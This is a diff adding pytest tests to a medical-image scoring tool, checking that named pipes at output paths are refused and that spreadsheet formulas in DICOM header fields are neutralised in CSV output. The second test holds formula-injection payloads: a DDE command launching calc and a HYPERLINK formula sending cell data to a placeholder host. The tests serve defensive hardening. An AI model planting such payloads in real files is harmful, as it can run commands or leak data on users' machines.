@@ -149,3 +149,52 @@ def test_resume_scores_a_changed_file_again(ckpt, folder, tmp_path, workers):
     _score(ckpt, folder, fresh, workers=workers)
     assert fresh.read_bytes() == out.read_bytes()
     assert fresh.with_suffix(".studies.csv").read_bytes() == out.with_suffix(".studies.csv").read_bytes()
+
+
+# ---------------------------------------------------------------- every side file, and what cells hold
+
+def _raw_cells(path: Path) -> list[str]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [c for row in csv.reader(fh) for c in row]
+
+
+@pytest.mark.parametrize("side", ["scores.csv", "scores.meta.csv", "scores.studies.csv"])
+def test_a_fifo_at_any_side_file_is_refused_not_waited_on(ckpt, folder, tmp_path, side):
+    import os
+    import signal
+
+    os.mkfifo(tmp_path / side)
+
+    def hung(*_):
+        raise TimeoutError(f"score blocked on the FIFO at {side}")
+
+    old = signal.signal(signal.SIGALRM, hung)
+    signal.alarm(20)
+    try:
+        with pytest.raises(ValueError, match=rf"{side}: not a regular file: a FIFO \(named pipe\)"):
+            _score(ckpt, folder, tmp_path / "scores.csv")
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, old)
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "in") == [side]  # nothing written beside it
+
+
+def test_header_values_a_spreadsheet_would_run_reach_no_score_file_as_formulas(ckpt, tmp_path, monkeypatch):
+    """Formulas in ViewPosition and Manufacturer: the view is no view code (written as a
+    placeholder), the manufacturer a valid name, written with its formula neutralised."""
+    from fibrosis.io import FORMULA_START, read_csv
+
+    monkeypatch.setenv("FIBROSIS_SALT", "test-salt")
+    d = tmp_path / "in"
+    d.mkdir()
+    vendor = "=cmd|' /C calc'!A0"
+    make_dicom(d / "x.dcm", to_stored(chest_phantom(64, 56), 12), bits_stored=12, Manufacturer=vendor,
+               view='=HYPERLINK("http://x.invalid/?"&A1)', study_uid="1.2.826.0.1.3680043.10.76.9")
+    out = tmp_path / "scores.csv"
+    assert _score(ckpt, d, out).counts == {"ok": 1}
+    for f in (out, out.with_name("scores.meta.csv"), out.with_name("scores.studies.csv")):
+        cells = _raw_cells(f)
+        assert not [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("+-").replace(".", "").isdigit()], f
+        assert "HYPERLINK" not in f.read_text()
+    (meta,) = read_csv(out.with_name("scores.meta.csv"))
+    assert meta["manufacturer"] == vendor and meta["view_position"] == "<invalid>"  # read back as written
